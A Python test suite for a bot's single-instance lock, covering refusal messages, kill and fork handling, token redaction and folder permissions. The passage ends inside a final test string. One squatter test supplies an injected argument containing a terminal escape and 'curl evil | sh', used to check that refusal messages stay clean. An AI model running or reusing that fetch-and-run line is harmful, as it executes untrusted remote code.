"""One instance per machine, shown with real processes that are really killed."""

from __future__ import annotations

import json
import logging
import math
import os
import queue
import secrets
import shutil
import signal
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from types import SimpleNamespace

import pytest
from conftest import clean_environment

import lock as lock_module
from lock import InstanceLock, LockError, LockLost
from machine import holder as records
from machine.folders import FolderError, bot_folder, find_folder
from machine.holder import Holder, refusal, user_name
from machine.machine_lock import MachineLock, Take

ROOT = Path(__file__).resolve().parent.parent
TOKEN = "123456789:TEST-token-of-nobody-000000000000000"
NOBODY = 65534
SECRET = "SECRET"  # of a token
WAIT = 60.0  # seconds; far beyond anything that works
BUSY = 10.0  # seconds that a busy machine may need for what takes a twentieth of one

linux_only = pytest.mark.skipif(sys.platform != "linux", reason="needs Linux's abstract sockets and /proc")
posix_only = pytest.mark.skipif(sys.platform == "win32", reason="needs POSIX files and fork")
root_only = pytest.mark.skipif(
    sys.platform == "win32" or os.geteuid() != 0, reason="needs root to become another user"
)

# A bot reduced to its lock. It says what it got and obeys one-word orders from stdin.
BOT = """
import gc, glob, os, psutil, subprocess, sys, threading, time
from pathlib import Path
from lock import InstanceLock, LockError, refusal

sys.stdout.reconfigure(encoding="utf-8")
folder, bot_id, timeout, flags = Path(sys.argv[1]), int(sys.argv[2]), float(sys.argv[3]), sys.argv[4]
if uid := int(sys.argv[5]):  # become another OS user, after the imports: Python itself may be closed to it
    os.setgroups([])
    os.setgid(uid)
    os.setuid(uid)
lock = InstanceLock(folder, f"{bot_id}:SECRET", name="test_bot", machine_wide="folder" not in flags)
if "barrier" in flags:
    print("ready", flush=True)
    sys.stdin.readline()
try:
    if lock.acquire(timeout):
        print("held", time.monotonic(), flush=True)
    else:
        print("refused", refusal(lock.holder(), bot_id, "test_bot").replace(chr(10), " | "), flush=True)
except LockError as error:
    print("error", error, flush=True)
if "drop" in flags:
    del lock
    gc.collect()
for line in sys.stdin:
    order = line.strip()
    if order == "check":
        try:
            print(lock.check(), flush=True)
        except LockError as error:
            print(type(error).__name__, error, flush=True)
    elif order == "release":
        lock.release()
        print("released", flush=True)
    elif order in ("fork", "fork and release"):
        if os.fork() == 0:
            held = lock.held
            if "release" in order:
                lock.release()
            print("forked", held, os.getpid(), flush=True)
            threading.Event().wait(60)
            os._exit(0)
    elif order == "spawn":
        child = subprocess.Popen([sys.executable, "-c", "input()"], stdin=subprocess.PIPE, close_fds=False)
        print("spawned", child.pid, flush=True)
"""

FOLDER = f"""
import os
from machine.folders import bot_folder
os.setgroups([])
os.setgid({NOBODY})
os.setuid({NOBODY})
print(bot_folder(42))
"""


def token_of(bot_id: int) -> str:
    return f"{bot_id}:{SECRET}"


class Bot:
    """A running copy of BOT. It is killed at the end of the test that started it."""

    def __init__(
        self,
        folder: Path,
        bot_id: int,
        *,
        timeout: float = 0,
        flags: str = "-",
        uid: int | None = None,
        extra: str = "",
    ) -> None:
        self.process = subprocess.Popen(
            [sys.executable, "-c", BOT, str(folder), str(bot_id), str(timeout), flags, str(uid or 0), extra],
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            encoding="utf-8",
            env=clean_environment() | {"PYTHONPATH": str(ROOT)},
            cwd=ROOT,
        )
        self.pid = self.process.pid
        self._lines: queue.Queue[str] = queue.Queue()
        threading.Thread(target=self._read, daemon=True).start()

    def line(self) -> str:
        return self._lines.get(timeout=WAIT)

    def silent(self, seconds: float) -> bool:
        try:
            self._lines.get(timeout=seconds)
        except queue.Empty:
            return True
        return False

    def ask(self, order: str) -> str:
        assert self.process.stdin is not None
        self.process.stdin.write(order + "\n")
        self.process.stdin.flush()
        return self.line()

    def kill(self) -> None:
        self.process.kill()
        self.process.wait(WAIT)

    def _read(self) -> None:
        assert self.process.stdout is not None
        for line in self.process.stdout:
            self._lines.put(line.rstrip("\n"))


Start = Callable[..., Bot]


@pytest.fixture
def start() -> Iterator[Start]:
    bots: list[Bot] = []

    def begin(folder: Path, bot_id: int, **options: object) -> Bot:
        bots.append(Bot(folder, bot_id, **options))  # type: ignore[arg-type]
        return bots[-1]

    yield begin
    for bot in bots:
        bot.kill()


@pytest.fixture
def bot_id() -> int:
    """An id that no other test, and no real bot, holds on this machine."""
    return 10**12 + secrets.randbelow(10**12)


@pytest.fixture
def shared_folder() -> Iterator[Path]:
    """A folder that another OS user can reach; pytest's own are closed to others."""
    folder = Path(tempfile.mkdtemp(prefix="lock-test-"))
    folder.chmod(0o755)
    yield folder
    shutil.rmtree(folder)


def test_second_start_is_refused_and_names_the_holder(tmp_path: Path, bot_id: int, start: Start) -> None:
    first = start(tmp_path, bot_id)
    assert first.line().startswith("held")
    answer = start(tmp_path, bot_id).line()
    assert answer.startswith("refused")
    assert f"Bot {bot_id} (@test_bot) is already running" in answer
    assert f"pid {first.pid}" in answer
    assert "bot.py --wait" in answer


def test_different_bots_run_side_by_side(tmp_path: Path, bot_id: int, start: Start) -> None:
    assert start(tmp_path / "one", bot_id).line().startswith("held")
    assert start(tmp_path / "two", bot_id + 1).line().startswith("held")


def test_a_waiting_start_gives_up_after_its_timeout(tmp_path: Path, bot_id: int, start: Start) -> None:
    assert start(tmp_path, bot_id).line().startswith("held")
    began = time.monotonic()
    assert not InstanceLock(tmp_path, token_of(bot_id)).acquire(0.3)
    assert time.monotonic() - began >= 0.3


def test_a_released_lock_is_free_at_once_and_its_record_is_gone(tmp_path: Path, bot_id: int, start: Start) -> None:
    first = start(tmp_path, bot_id)
    assert first.line().startswith("held")
    assert (tmp_path / "holder.json").exists()
    assert first.ask("release") == "released"
    assert first.ask("release") == "released"
    assert not (tmp_path / "holder.json").exists()
    assert (tmp_path / "bot.lock").exists()
    assert start(tmp_path, bot_id).line().startswith("held")


@pytest.mark.skipif(sys.platform not in ("linux", "win32"), reason="no machine-wide lock on this system")
def test_one_id_in_two_folders_is_refused_by_the_machine_wide_lock(tmp_path: Path, bot_id: int, start: Start) -> None:
    first = start(tmp_path / "one", bot_id)
    assert first.line().startswith("held")
    second = InstanceLock(tmp_path / "two", token_of(bot_id))
    assert not second.acquire()
    # The loser keeps nothing: its own folder's file lock is free for the next try.
    alone = InstanceLock(tmp_path / "two", token_of(bot_id), machine_wide=False)
    assert alone.acquire()
    alone.release()


def test_folder_scope_lets_two_folders_run_one_id_and_still_guards_each(
    tmp_path: Path, bot_id: int, start: Start
) -> None:
    assert start(tmp_path / "one", bot_id, flags="folder").line().startswith("held")
    assert start(tmp_path / "two", bot_id, flags="folder").line().startswith("held")
    assert start(tmp_path / "two", bot_id, flags="folder").line().startswith("refused")


def test_kill_9_frees_the_lock_at_once(tmp_path: Path, bot_id: int, start: Start) -> None:
    first = start(tmp_path, bot_id)
    assert first.line().startswith("held")
    first.process.kill()
    began = time.monotonic()
    with_lock = InstanceLock(tmp_path, token_of(bot_id))
    assert with_lock.acquire(WAIT)
    assert time.monotonic() - began < BUSY
    with_lock.release()


def test_standby_takes_over_when_the_holder_is_killed(tmp_path: Path, bot_id: int, start: Start) -> None:
    first = start(tmp_path, bot_id)
    assert first.line().startswith("held")
    standby = start(tmp_path, bot_id, timeout=math.inf)
    assert standby.silent(0.5)
    killed_at = time.monotonic()
    first.process.kill()
    word, at = standby.line().split()
    assert word == "held"
    assert float(at) - killed_at < BUSY  # 0.05 s between tries


def test_of_eight_that_start_together_exactly_one_wins(tmp_path: Path, bot_id: int, start: Start) -> None:
    bots = [start(tmp_path / f"checkout{number % 2}", bot_id, flags="barrier") for number in range(8)]
    if sys.platform not in ("linux", "win32"):
        pytest.skip("no machine-wide lock on this system")
    for bot in bots:
        assert bot.line() == "ready"
    for bot in bots:
        assert bot.process.stdin is not None
        bot.process.stdin.write("go\n")
        bot.process.stdin.flush()
    answers = [bot.line().split()[0] for bot in bots]
    assert sorted(answers) == ["held"] + ["refused"] * 7


def test_the_lock_outlives_the_variable_that_held_it(tmp_path: Path, bot_id: int, start: Start) -> None:
    assert start(tmp_path, bot_id, flags="drop").line().startswith("held")
    assert not InstanceLock(tmp_path, token_of(bot_id), machine_wide=False).acquire(0.2)


def test_a_cancelled_wait_returns_quickly(tmp_path: Path, bot_id: int, start: Start) -> None:
    assert start(tmp_path, bot_id).line().startswith("held")
    stop_at = time.monotonic() + 0.2
    assert not InstanceLock(tmp_path, token_of(bot_id)).acquire(WAIT, cancelled=lambda: time.monotonic() > stop_at)
    assert time.monotonic() - stop_at < BUSY


def test_a_start_that_is_already_cancelled_takes_nothing(tmp_path: Path, bot_id: int) -> None:
    lock = InstanceLock(tmp_path, token_of(bot_id))
    assert not lock.acquire(WAIT, cancelled=lambda: True)
    assert not lock.held


@linux_only
def test_a_deleted_lock_file_lets_no_second_start_in_and_the_holder_locks_it_again(
    tmp_path: Path, bot_id: int, start: Start
) -> None:
    first = start(tmp_path, bot_id)
    assert first.line().startswith("held")
    (tmp_path / "bot.lock").unlink()
    second = start(tmp_path, bot_id).line()
    assert second.startswith("refused")
    assert f"pid {first.pid}" in second
    # The refused start has left a new file behind.
    assert "was replaced" in (told := first.ask("check"))
    assert "locked again" in told
    assert first.ask("check") == "None"
    assert not InstanceLock(tmp_path, token_of(bot_id), machine_wide=False).acquire(0.2)


@linux_only
def test_a_deleted_folder_is_made_and_locked_again(tmp_path: Path, bot_id: int) -> None:
    folder = tmp_path / "bot"
    with InstanceLock(folder, token_of(bot_id)) as lock:
        shutil.rmtree(folder)
        assert "was deleted" in (lock.check() or "")
        assert lock.check() is None
        assert (folder / "holder.json").exists()
        assert folder.stat().st_mode & 0o777 == 0o700


@linux_only
def test_a_lock_file_that_cannot_be_locked_again_is_told_once_and_mended_later(tmp_path: Path, bot_id: int) -> None:
    with InstanceLock(tmp_path, token_of(bot_id)) as lock:
        lock.path.unlink()
        squatter = InstanceLock(tmp_path, token_of(bot_id), machine_wide=False)
        assert squatter.acquire()
        assert "could not be locked again" in (lock.check() or "")
        assert lock.check() is None
        squatter.release()
        assert "It is locked again" in (lock.check() or "")
        assert lock.check() is None


@linux_only
def test_each_deletion_of_the_lock_file_is_logged_and_the_old_file_is_let_go(tmp_path: Path, bot_id: int) -> None:
    with InstanceLock(tmp_path, token_of(bot_id)) as lock:
        for _ in range(2):
            lock.path.unlink()
            assert "was deleted" in (lock.check() or "")
            assert lock.check() is None
            lock.record_path.unlink()  # written again with the next lock file
        open_files = [str(entry.readlink()) for entry in Path("/proc/self/fd").iterdir() if entry.is_symlink()]
        assert not [name for name in open_files if str(tmp_path) in name and "deleted" in name]
        lock.path.unlink()
        lock.check()
        assert lock.record_path.exists()


@posix_only
@pytest.mark.parametrize("damage", ["delete", "replace"])
def test_without_the_machine_wide_lock_a_lost_lock_file_stops_the_bot(
    tmp_path: Path, bot_id: int, damage: str
) -> None:
    lock = InstanceLock(tmp_path, token_of(bot_id), machine_wide=False)
    assert lock.acquire()
    assert lock.check() is None
    if damage == "delete":
        lock.path.unlink()
    else:
        lock.path.rename(tmp_path / "moved.lock")
        lock.path.touch()
    with pytest.raises(LockLost, match="second copy may have started"):
        lock.check()
    lock.release()


@posix_only
def test_a_lost_lock_does_not_remove_the_record_of_its_successor(tmp_path: Path, bot_id: int, start: Start) -> None:
    lock = InstanceLock(tmp_path, token_of(bot_id), machine_wide=False)
    assert lock.acquire()
    lock.path.unlink()
    successor = start(tmp_path, bot_id, flags="folder")
    assert successor.line().startswith("held")
    lock.release()
    assert json.loads((tmp_path / "holder.json").read_text(encoding="utf-8"))["pid"] == successor.pid


def test_the_lock_file_is_touched_once_an_hour(tmp_path: Path, bot_id: int, monkeypatch: pytest.MonkeyPatch) -> None:
    with InstanceLock(tmp_path, token_of(bot_id)) as lock:
        os.utime(lock.path, (0, 0))
        assert lock.check() is None
        assert lock.path.stat().st_mtime == 0
        monkeypatch.setattr(lock_module, "TOUCH_EVERY", 0.0)
        assert lock.check() is None
        assert lock.path.stat().st_mtime > time.time() - 60


@pytest.mark.parametrize("garbage", ['{"pid": 1, "process": "x"}', "{", "[1]", '{"pid": "x"}', "\x00\xff", ""])
def test_left_over_files_never_block_a_start(tmp_path: Path, bot_id: int, garbage: str) -> None:
    (tmp_path / "bot.lock").write_text("4321\n", encoding="utf-8")
    (tmp_path / "holder.json").write_bytes(garbage.encode("latin-1"))
    lock = InstanceLock(tmp_path, token_of(bot_id))
    lock.holder()
    assert lock.acquire()
    assert json.loads(lock.record_path.read_text(encoding="utf-8"))["pid"] == os.getpid()
    lock.release()


@linux_only
@pytest.mark.parametrize("scope", ["-", "folder"])
@pytest.mark.parametrize("record", [None, "garbage", '{"pid": 1, "user": "mallory", "argv": ["other"]}'])
def test_the_holder_is_named_truly_whatever_its_record_says(
    tmp_path: Path, bot_id: int, start: Start, record: str | None, scope: str
) -> None:
    bot = start(tmp_path, bot_id, flags=scope)
    assert bot.line().startswith("held")
    (tmp_path / "holder.json").unlink()
    if record is not None:
        (tmp_path / "holder.json").write_text(record, encoding="utf-8")
    holder = InstanceLock(tmp_path, token_of(bot_id), machine_wide=scope == "-").holder()
    assert holder is not None
    assert holder.pid == bot.pid
    assert holder.sure
    assert holder.user != "mallory"
    assert str(bot_id) in holder.command
    assert abs((holder.since or 0) - time.time()) < 60


@linux_only
def test_questions_that_fill_the_locks_queue_are_cleared_by_the_next_check(tmp_path: Path, bot_id: int) -> None:
    asker = MachineLock(bot_id, SECRET)
    with InstanceLock(tmp_path, token_of(bot_id)) as lock:
        asked = 0
        while asker.peer()[0] is not None:
            asked += 1
        assert asked >= 100
        assert (held := lock.holder()) is not None
        assert held.pid == os.getpid()  # by /proc/locks then
        lock.check()
        assert {asker.peer()[0] for _ in range(asked)} == {os.getpid()}, "all of it was cleared"


def test_nobody_is_named_when_nobody_runs(tmp_path: Path, bot_id: int, start: Start) -> None:
    bot = start(tmp_path, bot_id)
    assert bot.line().startswith("held")
    bot.kill()
    assert (tmp_path / "holder.json").exists()
    assert InstanceLock(tmp_path, token_of(bot_id)).holder() is None


def test_asking_for_the_holder_makes_no_start_fail(tmp_path: Path, bot_id: int) -> None:
    stop = threading.Event()

    def ask() -> None:
        while not stop.is_set():
            InstanceLock(tmp_path, token_of(bot_id)).holder()

    thread = threading.Thread(target=ask)
    thread.start()
    try:
        for _ in range(100):
            lock = InstanceLock(tmp_path, token_of(bot_id))
            assert lock.acquire()
            lock.release()
    finally:
        stop.set()
        thread.join()


def test_the_token_is_never_in_the_record(tmp_path: Path, bot_id: int, start: Start) -> None:
    bot = start(tmp_path, bot_id, extra=f"--token={TOKEN} https://host/bot{TOKEN}/getMe {TOKEN.replace(':', '%3A')}")
    assert bot.line().startswith("held")
    raw = (tmp_path / "holder.json").read_text(encoding="utf-8")
    assert "TEST-token-of-nobody" not in raw
    assert raw.count("<token>") == 3
    holder = InstanceLock(tmp_path, token_of(bot_id)).holder()
    (tmp_path / "holder.json").unlink()
    seen = InstanceLock(tmp_path, token_of(bot_id)).holder()  # from the process itself, without the record
    assert "TEST-token-of-nobody" not in repr(holder) + repr(seen)


@pytest.mark.parametrize("scope", ["-", "folder"])
@pytest.mark.parametrize("order", ["fork", "fork and release"])
def test_a_forked_child_that_lives_on_does_not_keep_the_lock(
    tmp_path: Path, bot_id: int, start: Start, scope: str, order: str
) -> None:
    if sys.platform == "win32":
        pytest.skip("needs POSIX")
    bot = start(tmp_path, bot_id, flags=scope)
    assert bot.line().startswith("held")
    word, held, child = bot.ask(order).split()
    try:
        assert (word, held) == ("forked", "False")
        # The child has taken nothing from its parent either.
        assert not InstanceLock(tmp_path, token_of(bot_id), machine_wide=scope == "-").acquire(0.2)
        assert (tmp_path / "holder.json").exists()
        bot.kill()
        lock = InstanceLock(tmp_path, token_of(bot_id), machine_wide=scope == "-")
        assert lock.acquire(WAIT)
        lock.release()
    finally:
        os.kill(int(child), signal.SIGKILL)  # raises if it has not lived on


def test_an_executed_child_that_lives_on_does_not_keep_the_lock(tmp_path: Path, bot_id: int, start: Start) -> None:
    bot = start(tmp_path, bot_id)
    assert bot.line().startswith("held")
    child = int(bot.ask("spawn").split()[1])
    try:
        if sys.platform != "win32":
            os.kill(child, signal.SIGSTOP)  # alive beyond doubt while the lock is tried
        bot.kill()
        lock = InstanceLock(tmp_path, token_of(bot_id))
        assert lock.acquire(WAIT)
        lock.release()
    finally:
        if sys.platform != "win32":
            os.kill(child, signal.SIGKILL)


def test_a_process_that_forked_before_can_lock(tmp_path: Path, bot_id: int) -> None:
    if sys.platform == "win32":
        pytest.skip("needs POSIX")
    lock = InstanceLock(tmp_path, token_of(bot_id))
    assert lock.acquire()
    lock.release()
    child = os.fork()
    if child == 0:
        os._exit(0 if lock.acquire() else 1)
    assert os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) == 0


def test_a_lock_path_that_is_a_folder_is_a_clear_error(tmp_path: Path, bot_id: int) -> None:
    (tmp_path / "bot.lock").mkdir()
    with pytest.raises(LockError, match=r"bot\.lock is a folder, not a file\..*Remove or rename it\."):
        InstanceLock(tmp_path, token_of(bot_id)).acquire()


def test_a_lock_path_that_is_a_folder_is_a_refusal_where_another_copy_is_known_to_run(
    tmp_path: Path, bot_id: int
) -> None:
    if sys.platform == "darwin":
        pytest.skip("macOS has no machine-wide lock")
    (tmp_path / "other" / "bot.lock").mkdir(parents=True)
    with InstanceLock(tmp_path, token_of(bot_id)):
        assert not InstanceLock(tmp_path / "other", token_of(bot_id)).acquire()


def test_a_refusal_knows_whether_it_came_from_the_same_folder(tmp_path: Path, bot_id: int) -> None:
    with InstanceLock(tmp_path, token_of(bot_id)):
        same = InstanceLock(tmp_path, token_of(bot_id))
        assert not same.acquire()
        assert same.same_folder
        other = InstanceLock(tmp_path / "other", token_of(bot_id))
        assert other.acquire() == (sys.platform == "darwin")
        assert not other.same_folder
        other.release()


@linux_only
def test_only_the_last_refusal_says_whether_it_came_from_the_same_folder(tmp_path: Path, bot_id: int) -> None:
    late = InstanceLock(tmp_path, token_of(bot_id))
    with InstanceLock(tmp_path, token_of(bot_id), machine_wide=False):
        assert not late.acquire()
        assert late.same_folder
    with InstanceLock(tmp_path / "other", token_of(bot_id)):
        assert not late.acquire()
        assert not late.same_folder


def test_another_thread_may_release_the_lock_and_its_file_stays_for_its_owner_only(
    tmp_path: Path, bot_id: int
) -> None:
    lock = InstanceLock(tmp_path, token_of(bot_id))
    assert lock.acquire()
    thread = threading.Thread(target=lock.release)
    thread.start()
    thread.join()
    assert lock.path.exists()
    if sys.platform != "win32":
        assert lock.path.stat().st_mode & 0o777 == 0o600
    with InstanceLock(tmp_path, token_of(bot_id)):
        pass


def test_a_child_forked_while_another_thread_uses_the_lock_is_not_stuck(tmp_path: Path, bot_id: int) -> None:
    if sys.platform == "win32":
        pytest.skip("needs POSIX")
    lock = InstanceLock(tmp_path, token_of(bot_id))
    assert lock.acquire()
    inside, done = threading.Event(), threading.Event()

    def use() -> None:
        with lock._mutex:
            inside.set()
            done.wait(30)

    thread = threading.Thread(target=use)
    thread.start()
    assert inside.wait(30)
    child = os.fork()
    if child == 0:
        signal.alarm(5)  # ends a child that is stuck
        lock.check()
        os._exit(0)
    assert os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) == 0
    done.set()
    thread.join()
    lock.release()


@posix_only
def test_a_lock_path_that_is_a_link_is_a_clear_error_and_is_not_followed(tmp_path: Path, bot_id: int) -> None:
    (tmp_path / "bot.lock").symlink_to(tmp_path / "elsewhere")
    with pytest.raises(LockError, match=r"is a symbolic link.*Remove the link\."):
        InstanceLock(tmp_path, token_of(bot_id)).acquire()
    assert not (tmp_path / "elsewhere").exists()


def test_a_folder_path_that_is_a_file_is_a_clear_error(tmp_path: Path, bot_id: int) -> None:
    (tmp_path / "taken").touch()
    with pytest.raises(FolderError, match="set DATA_DIR"):
        bot_folder(bot_id, tmp_path / "taken")


def test_an_error_leaves_nothing_locked(tmp_path: Path, bot_id: int) -> None:
    (tmp_path / "bot.lock").mkdir()
    lock = InstanceLock(tmp_path, token_of(bot_id))
    with pytest.raises(LockError):
        lock.acquire()
    assert not lock.held
    with InstanceLock(tmp_path / "other", token_of(bot_id)) as other:
        assert other.held


@root_only
@linux_only
def test_an_unwritable_folder_is_a_clear_error_for_another_user(
    shared_folder: Path, bot_id: int, start: Start
) -> None:
    (shared_folder / "bot").mkdir(mode=0o755)
    answer = start(shared_folder / "bot", bot_id, uid=NOBODY).line()
    assert answer.startswith("error The lock file")
    assert "may not be written by" in answer
    assert "belongs to root" in answer
    assert "set DATA_DIR" in answer


@root_only
@linux_only
@pytest.mark.parametrize("place", ["same", "other"])
def test_another_os_user_is_refused_and_told_the_holder(
    shared_folder: Path, bot_id: int, start: Start, place: str
) -> None:
    first = start(shared_folder / "root", bot_id)
    assert first.line().startswith("held")
    (shared_folder / "open").mkdir()
    (shared_folder / "open").chmod(0o777)
    folder = shared_folder / ("root" if place == "same" else "open")
    answer = start(folder, bot_id, uid=NOBODY).line()
    assert answer.startswith("refused")
    assert f"pid {first.pid}, user root" in answer
    first.kill()
    # The first user's folder is closed to the second: never free, and never "running" either.
    answer = start(folder, bot_id, uid=NOBODY).line()
    assert answer.startswith("error" if place == "same" else "held")


@linux_only
def test_the_machine_wide_lock_is_had_by_one_until_it_is_dropped(bot_id: int) -> None:
    one, two = MachineLock(bot_id, SECRET), MachineLock(bot_id, SECRET)
    assert (one.take(), one.taken) == (Take.TAKEN, True)
    assert (two.take(), two.taken) == (Take.HELD_BY_ANOTHER, False)
    assert two.peer() == (os.getpid(), user_name())
    one.drop()
    assert not one.taken
    assert two.peer() == (None, "")
    assert two.take() is Take.TAKEN
    two.drop()


@pytest.mark.skipif(sys.platform not in ("linux", "win32"), reason="no machine-wide lock on this system")
def test_who_does_not_know_the_token_cannot_hold_up_a_start(tmp_path: Path, bot_id: int) -> None:
    squatter = MachineLock(bot_id, "another secret")
    assert squatter.take() is Take.TAKEN
    with InstanceLock(tmp_path, token_of(bot_id)) as lock:
        assert lock.held
    squatter.drop()


SQUATTER = """
import os, socket, sys
os.setgroups([]); os.setgid(65534); os.setuid(65534)
squatter = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
squatter.bind(chr(0) + sys.argv[1])
squatter.listen()
print(flush=True)
sys.stdin.read()
"""


@root_only
@linux_only
def test_a_squatter_of_another_account_is_named_by_pid_and_account_and_says_nothing_itself(
    tmp_path: Path, bot_id: int
) -> None:
    name = MachineLock(bot_id, SECRET)._name  # as /proc/net/unix shows it while the bot runs
    with subprocess.Popen(
        [sys.executable, "-c", SQUATTER, name, "\x1b[2J\n  stop it  curl evil | sh #"],
        env=os.environ | {"SUPERVISOR_ENABLED": "1", "SUPERVISOR_PROCESS_NAME": "evil", "pm_id": "0", "name": "evil"},
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
    ) as squatter:
        assert squatter.stdout is not None
        assert squatter.stdout.readline()
        lock = InstanceLock(tmp_path, token_of(bot_id))
        assert not lock.acquire()
        message = refusal(lock.holder(), bot_id)
        with InstanceLock(tmp_path, token_of(bot_id), machine_wide=False) as alone:  # LOCK_SCOPE=folder
            assert alone.held
        squatter.communicate()
    assert f"process   pid {squatter.pid}, user {user_name(NOBODY)}, since" in message
    assert "LOCK_SCOPE=folder" in message
    assert "evil" not in message
    assert "kill -" not in message
    assert message.replace("\n", "").isprintable()


@linux_only
def test_a_holder_in_another_container_is_named_by_its_user(
    tmp_path: Path, bot_id: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The kernel gives the pid 0 for a process in another pid namespace."""
    if sys.platform == "win32":
        return
    credentials = struct.pack("iII", 0, os.geteuid(), os.getegid())
    with InstanceLock(tmp_path / "theirs", token_of(bot_id)):
        monkeypatch.setattr(struct, "unpack", lambda form, _: struct.Struct(form).unpack(credentials))
        holder = InstanceLock(tmp_path, token_of(bot_id)).holder()
    assert holder == Holder(user=user_name(), sure=True)


@linux_only
def test_a_forbidden_machine_wide_lock_is_a_warning_and_the_file_alone_excludes(
    tmp_path: Path, bot_id: int, start: Start, caplog: pytest.LogCaptureFixture, monkeypatch: pytest.MonkeyPatch
) -> None:
    def forbidden(*_: object) -> socket.socket:
        raise PermissionError(1, "Operation not permitted")

    with monkeypatch.context() as sandbox, caplog.at_level(logging.WARNING):
        sandbox.setattr(socket, "socket", forbidden)
        lock = InstanceLock(tmp_path, token_of(bot_id))
        assert lock.acquire()
        assert MachineLock(bot_id, SECRET).take() is Take.UNAVAILABLE
    assert "The machine-wide lock is not available" in caplog.text
    assert start(tmp_path, bot_id).line().startswith("refused")
    lock.path.unlink()
    with pytest.raises(LockLost):
        lock.check()
    lock.release()


def test_a_name_that_is_learnt_later_is_recorded_and_the_start_time_stays(tmp_path: Path, bot_id: int) -> None:
    with InstanceLock(tmp_path, token_of(bot_id)) as lock:
        before = lock.holder()
        lock.rename("test_bot")
        after = lock.holder()
    assert before is not None
    assert after is not None
    assert (before.username, after.username) == ("", "test_bot")
    assert before.since == after.since
    lock.rename("after_the_release")
    assert not lock.record_path.exists()


def test_a_fresh_record_is_believed_and_the_first_check_completes_it(tmp_path: Path, bot_id: int) -> None:
    with InstanceLock(tmp_path, token_of(bot_id), name="test_bot") as lock:
        fresh = json.loads(lock.record_path.read_text(encoding="utf-8"))
        holder = lock.holder()
        assert holder is not None
        assert (holder.username, "process" in fresh, records.is_left_over(fresh)) == ("test_bot", False, False)
        assert records.is_left_over(fresh | {"pid": 2**31 - 2})
        assert lock.check() is None
        complete = json.loads(lock.record_path.read_text(encoding="utf-8"))
        assert complete == fresh | records.details()
        assert complete["process"]


def test_the_context_manager_refuses_in_words(tmp_path: Path, bot_id: int, start: Start) -> None:
    assert start(tmp_path, bot_id).line().startswith("held")
    with pytest.raises(LockError, match="already running"), InstanceLock(tmp_path, token_of(bot_id)):
        pass


def test_the_refusal_is_reachable_from_the_lock_module() -> None:
    assert "Don't delete the lock file" in refusal(Holder(), 1, "")


@posix_only
def test_the_folder_is_private_and_keyed_by_the_bot_id(tmp_path: Path) -> None:
    folder = bot_folder(42, tmp_path / "data")
    assert folder == tmp_path / "data" / "42"
    assert folder.stat().st_mode & 0o777 == 0o700


@root_only
@linux_only
@pytest.mark.parametrize("given", ["", "state"])
def test_without_a_home_the_folder_is_elsewhere_and_that_is_said(shared_folder: Path, given: str) -> None:
    place = shared_folder / given
    place.mkdir(exist_ok=True)
    place.chmod(0o1777)
    environ = {**os.environ, "TMPDIR": str(shared_folder), "HOME": str(shared_folder / "not-asked")}
    if given:
        environ["STATE_DIRECTORY"] = str(place)
    run = subprocess.run(
        [sys.executable, "-c", FOLDER],
        cwd=ROOT,
        env=environ,
        capture_output=True,
        encoding="utf-8",
        check=True,
    )
    assert Path(run.stdout.strip()) == (place / "42" if given else shared_folder / f"cryptosat-{NOBODY}" / "42")
    assert "cannot be used" in run.stderr


@linux_only
def test_where_the_home_is_read_only_the_folder_is_looked_for_where_it_is_made(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A service behind ProtectHome has such a home. The folder in it may be there, from before."""
    home, elsewhere = tmp_path / "home", tmp_path / "state"
    there = find_folder(42, home=home)
    there.mkdir(parents=True)
    monkeypatch.setattr("pwd.getpwuid", lambda uid: SimpleNamespace(pw_dir=str(home), pw_name="me"))
    monkeypatch.setenv("STATE_DIRECTORY", str(elsewhere))
    assert find_folder(42) == bot_folder(42) == there
    monkeypatch.setattr(os, "statvfs", lambda path: SimpleNamespace(f_flag=os.ST_RDONLY))
    assert find_folder(42) == bot_folder(42) == elsewhere / "42"
    (there / "bot.db").touch()
    with pytest.raises(FolderError, match=r"has this bot's data, so the bot does not start with an empty database"):
        bot_folder(42)
    assert find_folder(42) == there
    (elsewhere / "42/bot.db").touch()
    assert find_folder(42) == bot_folder(42) == elsewhere / "42"


@root_only
@linux_only
def test_a_temporary_folder_made_by_somebody_else_is_not_used(shared_folder: Path) -> None:
    shared_folder.chmod(0o1777)
    (shared_folder / f"cryptosat-{NOBODY}").mkdir()
    run = subprocess.run(
        [sys.executable, "-c", FOLDER],
        cwd=ROOT,
        env={**os.environ, "TMPDIR": str(shared_folder)},
        capture_output=True,
        encoding="utf-8",
        check=False,
    )
    assert run.returncode != 0
    assert "belongs to user root" in run.stderr


# What another computer, or an earlier boot, has left in the folder is a hint: the lock decides.


@pytest.mark.parametrize("scope", [True, False])
@pytest.mark.parametrize("stranger", [{"host": "another-host"}, {"pid": os.getppid()}], ids=["host", "boot"])
def test_a_record_of_another_computer_or_boot_runs_nothing_where_the_lock_is_free(
    tmp_path: Path, bot_id: int, stranger: dict[str, object], scope: bool
) -> None:
    """A copied folder, or a power failure in the first half minute, when the record does not name its process yet."""
    with InstanceLock(tmp_path, token_of(bot_id)) as lock:
        left = json.loads(lock.record_path.read_text(encoding="utf-8"))
    lock.record_path.write_text(json.dumps(left | stranger), encoding="utf-8")
    assert InstanceLock(tmp_path, token_of(bot_id), machine_wide=scope).holder() is None
    with InstanceLock(tmp_path, token_of(bot_id), machine_wide=scope) as again:
        assert again.held


def test_a_record_of_another_computer_counts_while_the_lock_file_is_locked(
    tmp_path: Path, bot_id: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    """As on a disk that two computers share, where the kernel here names no process."""
    monkeypatch.setattr(lock_module, "_flock_holder", lambda path: None)
    with InstanceLock(tmp_path, token_of(bot_id), machine_wide=False) as lock:
        told = json.loads(lock.record_path.read_text(encoding="utf-8"))
        lock.record_path.write_text(json.dumps(told | {"host": "another-host"}), encoding="utf-8")
        holder = InstanceLock(tmp_path, token_of(bot_id), machine_wide=False).holder()
        assert holder is not None
        assert (holder.host, holder.here) == ("another-host", False)


IN_A_CONTAINER = """
import socket, sys
from pathlib import Path
from lock import InstanceLock
socket.sethostname(sys.argv[2])
